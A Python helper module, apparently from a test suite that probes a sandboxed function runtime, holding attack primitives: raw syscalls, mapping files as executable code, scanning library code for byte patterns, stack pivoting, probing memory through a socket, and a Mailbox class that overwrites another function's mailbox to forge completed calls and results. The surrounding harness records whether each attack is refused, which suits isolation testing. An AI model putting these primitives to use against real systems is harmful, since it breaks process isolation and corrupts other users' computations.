"""What attacks are made of. An attack raises the errno that it was refused with, or returns what it got, None for nothing."""
import ctypes
import errno
import itertools
import os
import re
import socket
import struct
import sysconfig
import tempfile
import threading

# By name: the libc of this function's own namespace. None would mean the executable's.
libc = ctypes.CDLL("libc.so.6", use_errno=True)
python = ctypes.PyDLL(sysconfig.get_config_var("INSTSONAME"))
PAGE = 4096
READ, WRITE, EXECUTE = 1, 2, 4
PRIVATE, FIXED, ANONYMOUS = 2, 16, 32

# Of a pair of sockets: a pipe would keep, on some kernels, a place for each write that fails, and then block.
ends = []

NUMBERS = dict(
    mmap=9, mprotect=10, munmap=11, rt_sigaction=13, rt_sigreturn=15, mremap=25, madvise=28, getpid=39, fork=57, exit=60, kill=62,
    ptrace=101, sigaltstack=131, personality=135, prctl=157, arch_prctl=158, setrlimit=160, futex=202, tgkill=234, process_vm_readv=310,
    seccomp=317, memfd_create=319, userfaultfd=323, pkey_mprotect=329, pkey_alloc=330, pkey_free=331, rseq=334, io_uring_setup=425,
    pidfd_open=434, pidfd_getfd=438,
)


def checked(result):
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def word(argument):
    return ctypes.c_long(argument) if isinstance(argument, int) else argument


def syscall(name, *arguments):
    libc.syscall.restype = ctypes.c_long
    return checked(libc.syscall(ctypes.c_long(NUMBERS[name]), *map(word, arguments)))


def read(address, length):
    """By a plain load."""
    return ctypes.string_at(address, length).decode("latin-1")


def call(address):
    """Jumps there, with zeroes in the registers that pass arguments and in EAX."""
    return ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 6)(address)(0, 0, 0, 0, 0, 0)


def peek(address, length=PAGE):
    """By the kernel, on this thread's behalf: None where this thread may not read."""
    if not ends:
        ends.extend(end.detach() for end in socket.socketpair())
    written = libc.write(ends[1], ctypes.c_void_p(address), ctypes.c_size_t(length))
    found = os.read(ends[0], written) if written > 0 else b""
    return found if len(found) == length else None


def own_file_as_code(code):
    """Writes a file and maps it as code."""
    with tempfile.NamedTemporaryFile() as file:
        file.write(code.ljust(PAGE, b"\xcc"))
        file.flush()
        return syscall("mmap", 0, PAGE, READ | EXECUTE, PRIVATE, file.fileno(), 0)


def loaded(first):
    """Start and name of each library that is linked with `first`, the address of a link map."""
    at = first
    while at:
        base, name, _, following = struct.unpack("QQQQ", ctypes.string_at(at, 32))
        if base and ctypes.string_at(base, 4) == b"\x7fELF":
            yield base, ctypes.string_at(name).decode()
        at = following


def segments(base):
    """Flags, start and length of what a library has in memory."""
    headers, = struct.unpack("Q", ctypes.string_at(base + 32, 8))
    size, count = struct.unpack("HH", ctypes.string_at(base + 54, 4))
    for index in range(count):
        kind, flags, _, at, _, _, length, _ = struct.unpack("IIQQQQQQ", ctypes.string_at(base + headers + size * index, 56))
        if kind == 1:
            yield flags, base + at, length


def first_link_map():
    at = libc._handle
    while previous := struct.unpack("Q", ctypes.string_at(at + 32, 8))[0]:
        at = previous
    return at


def base_link_map():
    """Of the executable, which no function's libraries are linked with."""
    return ctypes.c_void_p.in_dll(ctypes.CDLL("ld-linux-x86-64.so.2"), "_rtld_global").value


def code_bytes(accept):
    """Addresses in everything executable where the bytes are as a pattern says."""
    for base, _ in itertools.chain(loaded(base_link_map()), loaded(first_link_map())):
        for flags, start, length in segments(base):
            if flags & 1:
                text = ctypes.string_at(start, length)
                yield from (start + found.start() for found in accept.finditer(text))


def tried(attack, where, context):
    """What the handler does: `attack` with what the victim says of itself."""
    where["context"] = context
    try:
        got = attack(where)
    except OSError as error:
        return {"refused": errno.errorcode.get(error.errno, str(error.errno))}
    finally:
        del where["context"]
    return {"got": got}


def search(pattern, around, reach):
    """Whether bytes that fit are within reach of an address, in what this thread may read."""
    for address in range((around & -PAGE) - reach, (around & -PAGE) + reach, PAGE):
        page = peek(address)
        if page and pattern.search(page):
            return hex(address)


# Where a context of the C library has the stack pointer.
RSP = 160


def go_on_at(stack_pointer):
    """Goes on where this thread is, with the stack somewhere else."""
    context = ctypes.create_string_buffer(1024)
    libc.getcontext(context)
    ctypes.memmove(ctypes.addressof(context) + RSP, struct.pack("Q", stack_pointer), 8)
    libc.setcontext(context)


def fault_handler():
    """Addresses of the function that the kernel enters when a thread faults, and of what it writes."""
    # lea r8, [rip + report]; mov eax, 1; xchg eax, [r8]
    at = next(code_bytes(re.compile(rb"\x4c\x8d\x05....\xb8\x01\x00\x00\x00\x41\x87\x00", re.DOTALL)))
    return at, at + 7 + struct.unpack("i", ctypes.string_at(at + 3, 4))[0]


def own_data():
    """Start and length of what the executable can write."""
    libc.getauxval.restype = ctypes.c_void_p
    at, size, count = (libc.getauxval(kind) for kind in (3, 4, 5))
    headers = [struct.unpack("IIQQQQQQ", ctypes.string_at(at + size * index, size)) for index in range(count)]
    base = next(at - header[3] for header in headers if header[0] == 6)
    return [(base + header[3], header[6]) for header in headers if header[0] == 1 and header[1] & 2]


def is_mapped(page):
    return libc.mincore(ctypes.c_void_p(page), ctypes.c_size_t(PAGE), ctypes.create_string_buffer(1)) == 0


def words(page):
    """What this thread may read of it."""
    return struct.unpack("512Q", peek(page) or bytes(PAGE))


class Mailbox:
    """The first page of this function's own mailbox, known by the request id in it."""

    IDENTITY, EVENT_AT, EVENT_LENGTH, OUT_AT, OUT_LENGTH, OUTCOME, LENGTH = 24, 88, 96, 104, 112, 128, 136
    UNDER_WAY, HANDED_ON, MOST_AHEAD = 160, 1496, 15
    # Of the first call, and of those that follow it.
    IDENTITIES = IDENTITY, *range(192, HANDED_ON, 88)

    def __init__(self, request):
        """What runs a function on this thread has the address on this thread's stack."""
        id, seen = request.encode(), set()
        top = threading.get_ident() & -PAGE
        for address in range(top + 4 * PAGE, top - (1 << 20), -PAGE):
            for word in struct.unpack("512Q", peek(address) or bytes(PAGE)):
                if word % PAGE or word in seen or not 0 < word < 1 << 47:
                    continue
                seen.add(word)
                page = peek(word) or b""
                if any(page[at : at + len(id)] == id for at in self.IDENTITIES):
                    self.address = word
                    return
        raise LookupError("no mailbox")

    def claim_all_calls(self):
        """That all calls of the longest run have been made, with results from anywhere."""
        for number in range(self.MOST_AHEAD):
            claim = self.HANDED_ON + 32 * number
            self[claim], self[claim + 8] = 1 << 40, (1 << 64) - 1
        self[self.UNDER_WAY] = (1 << 63) - 1

    def __getitem__(self, offset):
        return struct.unpack("Q", ctypes.string_at(self.address + offset, 8))[0]

    def __setitem__(self, offset, number):
        ctypes.memmove(self.address + offset, struct.pack("Q", number), 8)
